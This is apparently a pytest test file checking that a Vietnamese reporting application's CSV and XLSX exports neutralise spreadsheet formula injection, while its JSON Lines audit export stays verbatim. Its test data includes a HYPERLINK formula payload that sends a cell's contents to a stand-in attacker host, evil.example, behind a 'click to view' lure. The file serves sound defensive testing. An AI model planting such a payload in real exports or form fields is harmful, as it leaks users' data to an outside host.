"""Exports neutralise formulas (issue 11): text a spreadsheet would run (a leading `= + - @`, tab or CR) is text in the
report XLSX and the audit CSV; the JSON Lines export and the stored events (and so the audit chain) stay as written."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from phancap.engine.cells import append_text_safe, csv_safe
from phancap.engine.difficulties import raise_difficulty
from phancap.engine.queries import list_tasks, verify_audit
from phancap.engine.report_documents import report_documents
from phancap.engine.reports import create_reports, report_content
from phancap.engine.runtime import TaskEngine
from tests.api.conftest import bearer
from tests.api.helpers import sct_task

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_is_quoted_for_csv(value: str) -> None:
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Thiếu, bổ sung", "", "a=b", "1-2", 5, -3, None, "'=already"])
def test_other_values_are_left_alone(value: object) -> None:
    assert csv_safe(value) == value


def test_xlsx_rows_keep_formula_like_text_as_strings() -> None:
    sheet = Workbook().active
    assert sheet is not None
    append_text_safe(sheet, ["=1+1", "-2", 3, "bình thường"])  # type: ignore[arg-type]
    cells = list(sheet[1])  # type: ignore[index]
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("-2", "s"), (3, "n"), ("bình thường", "s")]
    assert cells[0].quotePrefix and not cells[3].quotePrefix


def test_a_difficulty_starting_with_equals_is_text_in_the_report_xlsx(client: TestClient, app: FastAPI,
                                                                      seeded: TaskEngine) -> None:
    create_reports(seeded.db, seeded.workflows, seeded.clock, "HN-2025", "semiannual", 2025)
    raise_difficulty(seeded, sct_task(seeded.db), "cv.sct", "=1+1")
    raise_difficulty(seeded, sct_task(seeded.db), "cv.sct", HYPERLINK)
    for report in list_tasks(seeded.db, plan="HN-2025", kind="report"):
        # the figures first (what report_documents builds its documents from), the documents only for the
        # first report that lists the difficulty: the same report and documents, without building ~130 others
        if report_content(seeded.db, int(report["id"]), date(2025, 6, 15), seeded.status)["difficulties"]["open"]:  # type: ignore[call-overload]
            _docx, xlsx, content = report_documents(seeded.db, int(report["id"]), date(2025, 6, 15), seeded.status)  # type: ignore[call-overload]
            assert content["difficulties"]["open"]
            break
    else:
        raise AssertionError("no report lists the difficulty")
    sheet = load_workbook(io.BytesIO(xlsx))["Khó khăn, vướng mắc"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value in ("=1+1", HYPERLINK)}
    assert set(cells) == {"=1+1", HYPERLINK}
    assert all(c.data_type == "s" for c in cells.values())
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:  # no formula anywhere in the workbook
        assert not any("<f>" in archive.read(n).decode() or "<f " in archive.read(n).decode()
                       for n in archive.namelist() if n.startswith("xl/worksheets/"))
    # the same through the API download
    got = client.get(f"/api/v1/reports/{report['id']}.xlsx", headers=bearer(app, "dm.snv"))
    assert got.status_code == 200, got.text
    served = load_workbook(io.BytesIO(got.content))["Khó khăn, vướng mắc"]
    assert [c.data_type for row in served.iter_rows(min_row=3) for c in row if c.value == "=1+1"] == ["s"]


def test_audit_csv_neutralises_comments_and_jsonl_stays_faithful(client: TestClient, app: FastAPI,
                                                                  seeded: TaskEngine) -> None:
    tid = sct_task(seeded.db)
    for comment in FORMULAS:
        fired = client.post(f"/api/v1/tasks/{tid}/transitions", headers=bearer(app, "cv.sct"),
                            json={"trigger": "comment", "comment": comment})
        assert fired.status_code == 200, fired.text
    response = client.get("/api/v1/audit", headers=bearer(app, "kiemtoan"), params={"task": tid, "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["comment"] for r in rows if r["trigger"] == "comment"] == ["'" + c for c in FORMULAS]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    jsonl = client.get("/api/v1/audit", headers=bearer(app, "kiemtoan"), params={"task": tid, "format": "jsonl"})
    comments = [json.loads(line)["comment"] for line in jsonl.text.splitlines()]
    assert comments[-len(FORMULAS):] == FORMULAS  # JSON is not a spreadsheet: as written
    assert verify_audit(seeded.db).ok  # stored data untouched: the chain still verifies
    page = client.get("/api/v1/audit/verify", headers=bearer(app, "kiemtoan")).json()
    assert page["ok"] is True
